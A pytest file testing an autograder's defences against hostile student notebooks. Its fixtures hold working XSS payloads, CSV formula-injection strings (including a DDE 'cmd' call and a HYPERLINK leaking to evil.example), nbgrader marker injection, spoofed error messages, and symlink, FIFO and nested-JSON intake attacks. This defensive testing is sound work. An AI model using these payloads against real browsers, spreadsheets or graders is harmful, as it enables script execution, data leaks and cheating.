"""Issue 15: everything a student's notebook produces reaches the instructor inert, and no student can
make the class's run fail.

One tiny class, graded once through the command line (``backproplab-grade``, every protection, the
static scan on), holds the hostile students: active content in outputs (three vectors and more),
spreadsheet formulas in failure messages, nbgrader markers in solution cells, exceptions worded like
the grader's own reasons, and intake attacks (a student folder linked to another's, a notebook linked
to a source notebook, a FIFO, absurdly nested JSON, a huge file). Each test fails on the grader before
issue 15 (feedback rendered live script; ``=`` reached the CSV; markers forced ``grader_error`` and
exit 1; the wording made ``out_of_memory``/``policy``; intake followed links and blocked on the FIFO).
"""

from __future__ import annotations

import csv
import json
import os
import re
from pathlib import Path

import nbformat
import pytest
from backproplab_autograder import cli, intake, neutralise, results, tinycourse
from nbformat import NotebookNode

# --- fast: the neutralisers themselves -------------------------------------------------------------


@pytest.mark.parametrize("value, expected", [
    ("=HYPERLINK(\"http://x\",\"y\")", "'=HYPERLINK(\"http://x\",\"y\")"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("square(3) should be 9", "square(3) should be 9"),
    ("-1", "-1"), ("+2.5", "+2.5"), ("-1e-3", "-1e-3"),
    (3.0, 3.0), (0, 0), (-2, -2),
])
def test_csv_fields_that_a_spreadsheet_would_evaluate_are_quoted_numbers_stay(value, expected):
    assert neutralise.csv_field(value) == expected


def test_grades_csvs_and_the_nbgrader_export_are_neutralised(tmp_path):
    res = [{"student_id": "ann", "assignment": "tiny", "score": 1.0, "max_score": 4.0,
            "cells": [{"notebook": "tiny", "grade_id": "g", "score": 0.0, "max_score": 2.0, "reason": "wrong_answer",
                       "message": "=1+1"}]}]
    (tmp_path / "nbgrader_grades.csv").write_text("assignment,student_id,first_name,score\ntiny,ann,=cmd(),-1\n")
    results.write_csvs(tmp_path, res)
    with open(tmp_path / "grades_detailed.csv", newline="") as fh:
        row = next(csv.DictReader(fh))
    assert row["message"] == "'=1+1" and row["score"] == "0" and row["max_score"] == "2"
    with open(tmp_path / "nbgrader_grades.csv", newline="") as fh:
        row = next(csv.DictReader(fh))
    assert row["first_name"] == "'=cmd()" and row["score"] == "-1"


def test_active_mime_types_are_dropped_and_named_images_checked():
    out = NotebookNode(output_type="display_data", metadata={"image/png": {"width": '"><script>x()</script>'}},
                       data={"text/html": "<script>x()</script>", "application/javascript": "x()",
                             "image/svg+xml": "<svg onload='x()'/>", "text/markdown": "<img src=x onerror=x()>",
                             "image/png": 'AAAA"><script>x()</script>', "image/jpeg": "/9j/4AAQ"})
    neutralise.scrub_output(out)
    assert set(out.data) == {"text/plain", "image/jpeg"}
    for mime in ("text/html", "application/javascript", "image/svg+xml", "text/markdown", "image/png"):
        assert mime in out.data["text/plain"]
    assert out.metadata == {}


def test_markdown_and_raw_cells_are_sanitised():
    nb = nbformat.v4.new_notebook(cells=[
        nbformat.v4.new_markdown_cell("hi <script>x()</script> <img src=x onerror=x()> [a](javascript:x())"),
        nbformat.v4.new_raw_cell("<script>x()</script>", metadata={"format": "text/html"})])
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}}}
    nb.cells[0].metadata["nbgrader"] = {"grade_id": 'x"><script>x()</script>', "grade": False}
    neutralise.scrub_notebook(nb)
    assert nb.cells[0].metadata["nbgrader"]["grade_id"] == "x___script_x____script_"
    text = nb.cells[0].source + nb.cells[1].source
    assert "<script" not in text and "<img" not in text and "javascript:" not in text
    assert "widgets" not in nb.metadata and "format" not in nb.cells[1].metadata


def test_nbgrader_markers_become_inert_but_visible():
    src = "x = 1  # ### BEGIN HIDDEN TESTS\n### END SOLUTION\n# BEGIN MARK SCHEME\n"
    got = neutralise.inert_markers(src)
    for marker in ("BEGIN HIDDEN TESTS", "END SOLUTION", "BEGIN MARK SCHEME"):
        assert marker not in got
    assert got.count("[student]") == 3 and neutralise.inert_markers("y = 2\n") == "y = 2\n"


def test_intake_refuses_links_fifos_deep_and_huge_files_without_raising(tmp_path):
    subs = tmp_path / "in"
    tinycourse.write_student(subs, "good", tinycourse.submission())
    os.symlink(subs / "good", subs / "alias")
    victim = tmp_path / "secret.ipynb"
    victim.write_bytes(nbformat.writes(tinycourse.submission()).encode())
    (subs / "linked" / "tiny").mkdir(parents=True)
    os.symlink(victim, subs / "linked" / "tiny" / "tiny.ipynb")
    (subs / "fifo" / "tiny").mkdir(parents=True)
    os.mkfifo(subs / "fifo" / "tiny" / "tiny.ipynb")
    tinycourse.write_student(subs, "deep", b"[" * 100_000 + b"]" * 100_000)
    path = tinycourse.write_student(subs, "huge", b"")
    with open(path, "wb") as fh:
        fh.truncate(intake.MAX_NOTEBOOK_BYTES + 1)  # sparse: costs no disk
    (subs / "dirlink" / "tiny").mkdir(parents=True)
    os.symlink("/etc", subs / "dirlink" / "tiny" / "etc")
    got = intake.normalise(subs, tmp_path / "dest", tmp_path / "work", {"tiny": "tiny.ipynb"})
    assert set(got.refused) == {("alias", "tiny"), ("linked", "tiny"), ("fifo", "tiny"), ("deep", "tiny"),
                                ("huge", "tiny")}
    assert "symbolic link" in got.refused[("alias", "tiny")] and "symbolic link" in got.refused[("linked", "tiny")]
    assert "FIFO" in got.refused[("fifo", "tiny")] and "nested" in got.refused[("deep", "tiny")]
    assert "MiB" in got.refused[("huge", "tiny")]
    assert any("dirlink/tiny/etc" in p and "not followed" in p for p in got.problems)
    for key, why in got.refused.items():  # the placed marker carries the reason to the pre-check
        assert intake.refusal(got.placed[key]) == why
    assert intake.refusal(got.placed[("good", "tiny")]) is None
    assert (tmp_path / "dest" / "good" / "tiny" / "tiny.ipynb").read_bytes() == \
        (subs / "good" / "tiny" / "tiny.ipynb").read_bytes()


# --- one hostile class, graded through the command line --------------------------------------------

XSS_SQUARE = '''\
class Page:
    def _repr_html_(self):
        return "<script>window.__pwned_html = 1; document.title = 'PWNED-HTML';</script><b>bold</b>"

    def _repr_javascript_(self):
        return "window.__pwned_js = 1; document.title = 'PWNED-JS';"

    def _repr_svg_(self):
        return '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned_svg = 1"></svg>'

    def _repr_markdown_(self):
        return '<img src="x" onerror="window.__pwned_md = 1">'


class Img:
    def _repr_html_(self):
        return '<img src="nope" onerror="window.__pwned_img = 1; document.title = \\'PWNED-IMG\\'">'


def square(x):
    return x * x


display(Page())
display(Img())
print("<script>window.__pwned_print = 1</script>")
Page()
'''
XSS_CUBE = '''\
def cube(x):
    display(Img())
    return x * x * x
'''
XSS_HALVE = '''\
def halve(x):
    raise ValueError("<script>window.__pwned_err = 1</script>")
'''
CSV_HALVE = '''\
def halve(x):
    raise ValueError('=HYPERLINK("http://evil.example/?leak","click")')
'''
CSV_CUBE = '''\
def cube(x):
    raise ValueError("+cmd|' /C calc'!A0")
'''
MARK_SQUARE = '''\
def square(x):
    # ### BEGIN HIDDEN TESTS
    return x * x
'''
MARK_CUBE = '''\
### BEGIN SOLUTION
def cube(x):
    return x * x * x
### END SOLUTION
'''
MARK_HALVE = '''\
def halve(x):
    # ### END HIDDEN TESTS
    # ### BEGIN MARK SCHEME
    return x / 2
'''
FAKE_OOM = '''\
def square(x):
    raise MemoryError("out of memory: Cannot allocate memory (bad_alloc)")
'''
FAKE_POLICY_CUBE = '''\
def cube(x):
    raise BlockingIOError(11, "Resource temporarily unavailable: can't start new thread")
'''
FAKE_POLICY_HALVE = '''\
def halve(x):
    raise OSError(27, "File too large")
'''
REFUSED = ("alias", "linked", "fifo", "deep", "huge")
PWNED = ("__pwned_html", "__pwned_js", "__pwned_svg", "__pwned_md", "__pwned_img", "__pwned_print", "__pwned_err")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    source = tinycourse.build(root)
    subs = root / "submitted"
    sub = tinycourse.submission
    students = {
        "good": sub(),
        "xss": sub({"square": XSS_SQUARE, "cube": XSS_CUBE, "halve": XSS_HALVE}),
        "formula": sub({"halve": CSV_HALVE, "cube": CSV_CUBE}),
        "markers": sub({"square": MARK_SQUARE, "cube": MARK_CUBE, "halve": MARK_HALVE}),
        "wording": sub({"square": FAKE_OOM, "cube": FAKE_POLICY_CUBE, "halve": FAKE_POLICY_HALVE}),
    }
    for name, nb in students.items():
        tinycourse.write_student(subs, name, nb)
    os.symlink(subs / "good", subs / "alias")                    # a student folder linked to another's
    (subs / "linked" / "tiny").mkdir(parents=True)
    os.symlink(source / "tiny" / "tiny.ipynb", subs / "linked" / "tiny" / "tiny.ipynb")  # to the solutions
    (subs / "fifo" / "tiny").mkdir(parents=True)
    os.mkfifo(subs / "fifo" / "tiny" / "tiny.ipynb")
    tinycourse.write_student(subs, "deep", b'{"cells": ' + b"[" * 50_000 + b"]" * 50_000 + b"}")
    with open(tinycourse.write_student(subs, "huge", b""), "wb") as fh:
        fh.truncate(intake.MAX_NOTEBOOK_BYTES + 1)
    out = root / "out"
    argv = [str(subs), "--out", str(out), "--source", str(source), "--jobs", "2", "--no-progress", "--quiet",
            "--cell-timeout", "20", "--notebook-timeout", "120", "--memory-mib", "2048", "--allow-reduced"]
    code = cli.main(argv)
    with open(out / "grades_detailed.csv", newline="") as fh:
        rows = list(csv.DictReader(fh))
    with open(out / "grades_detailed.csv", newline="") as fh:
        raw = fh.read()
    cells = {}
    for r in rows:
        cells.setdefault(r["student_id"], {})[r["grade_id"]] = r
    rerun = cli.main(argv)  # a rerun of the same class: nothing to redo, still exit 0
    return {"code": code, "rerun": rerun, "cells": cells, "raw": raw, "out": out, "source": source}


def _outcome(hostile, student):
    return {g: (float(r["score"]), r["reason"]) for g, r in hostile["cells"][student].items()}


FULL = {g: (p, "passed") for g, p in tinycourse.POINTS.items()}


@pytest.mark.slow
def test_no_student_makes_the_class_fail(hostile):
    assert hostile["code"] == 0 and hostile["rerun"] == 0
    assert not [(s, g) for s, c in hostile["cells"].items() for g, r in c.items() if r["reason"] == "grader_error"]
    assert _outcome(hostile, "good") == FULL


@pytest.mark.slow
def test_feedback_html_carries_no_active_content_from_student_outputs(hostile):
    page = (hostile["out"] / "feedback" / "xss" / "tiny" / "tiny.html").read_text()
    for name in PWNED:
        # the payloads may appear escaped (as text); never inside a live element
        for live in re.findall(r"<script[^>]*>(.*?)</script>", page, flags=re.S | re.I):
            assert name not in live
    assert not re.search(r"<img[^>]+onerror", page, re.I) and not re.search(r"<svg[^>]+onload", page, re.I)
    assert "removed by the grader" in page
    assert "&lt;script&gt;window.__pwned_print" in page  # printed text stays, as text


def _scripts_that_ran(pages: list[Path]) -> list[tuple[list[str], str, str]]:
    """Open each page in headless Chromium (no network): the payload flags set, the title, the text."""
    from playwright.sync_api import sync_playwright

    from tests.helpers.browser_util import CHROMIUM, CHROMIUM_ARGS

    found = []
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            for path in pages:
                page = browser.new_page()
                page.route(re.compile(r"^(?!file:).*"), lambda route: route.abort())  # CDN scripts off
                page.goto(path.as_uri(), wait_until="load")
                page.wait_for_timeout(500)
                ran = page.evaluate(f"() => {list(PWNED)!r}.filter(n => window[n] !== undefined)")
                found.append((ran, page.title(), page.inner_text("body")))
                page.close()
        finally:
            browser.close()
    return found


@pytest.mark.slow
def test_feedback_page_runs_no_student_script_in_chromium(hostile, tmp_path):
    from nbconvert import HTMLExporter

    from tests.helpers.browser_util import missing_browser

    why = missing_browser()
    if why:
        pytest.skip(why)
    feedback = hostile["out"] / "feedback" / "xss" / "tiny" / "tiny.html"
    # positive control: the same outputs rendered without the grader's scrub do run in this browser
    raw = tmp_path / "unscrubbed.html"
    autograded = hostile["out"] / "course" / "autograded" / "xss" / "tiny" / "tiny.ipynb"
    raw.write_text(HTMLExporter().from_filename(str(autograded))[0])
    (ran, title, shown), (control, _, _) = _scripts_that_ran([feedback, raw])
    assert control, "the payloads did not run even unscrubbed: the check would prove nothing"
    assert ran == [] and "PWNED" not in title
    assert "removed by the grader" in shown and "square" in shown


@pytest.mark.slow
def test_csv_formulas_from_messages_are_quoted(hostile):
    msg = hostile["cells"]["formula"]
    assert msg["test_halve"]["message"].startswith("'=HYPERLINK(")
    assert msg["test_cube"]["message"].startswith("'+cmd|")
    assert not re.search(r"(^|,)\"?[=+@]", hostile["raw"], re.M)
    assert msg["test_halve"]["score"] == "0" and msg["test_square"]["score"] == "2"


@pytest.mark.slow
def test_nbgrader_markers_in_solution_cells_are_inert(hostile):
    assert _outcome(hostile, "markers") == FULL
    page = (hostile["out"] / "feedback" / "markers" / "tiny" / "tiny.html").read_text()
    assert "[student] BEGIN_ HIDDEN TESTS" in page


@pytest.mark.slow
def test_reasons_never_come_from_the_wording_of_an_exception(hostile):
    got = _outcome(hostile, "wording")
    assert got == {"test_square": (0.0, "wrong_answer"), "test_cube": (0.0, "wrong_answer"),
                   "test_halve": (0.0, "wrong_answer")}


@pytest.mark.slow
def test_links_fifos_and_absurd_files_are_ungradable_with_a_message(hostile):
    for student in REFUSED:
        got = hostile["cells"][student]
        assert {r["reason"] for r in got.values()} == {"ungradable"}, student
        assert all(float(r["score"]) == 0 for r in got.values())
    cells = hostile["cells"]
    assert "symbolic link" in cells["alias"]["test_square"]["message"]
    assert "symbolic link" in cells["linked"]["test_square"]["message"]
    assert "FIFO" in cells["fifo"]["test_square"]["message"]
    assert "nested" in cells["deep"]["test_square"]["message"]
    assert "MiB" in cells["huge"]["test_square"]["message"]
    report = (hostile["out"] / "intake_report.md").read_text()
    assert "Refused" in report and "alias/tiny" in report
    # the linked notebook (the course's source, with its hidden tests) was never copied or graded
    placed = hostile["out"] / "work" / "submitted" / "linked" / "tiny" / "tiny.ipynb"
    assert tinycourse.HIDDEN_LINE not in placed.read_text()
    assert json.loads(placed.read_text()) == {intake.REFUSED_KEY: json.loads(placed.read_text())[intake.REFUSED_KEY]}
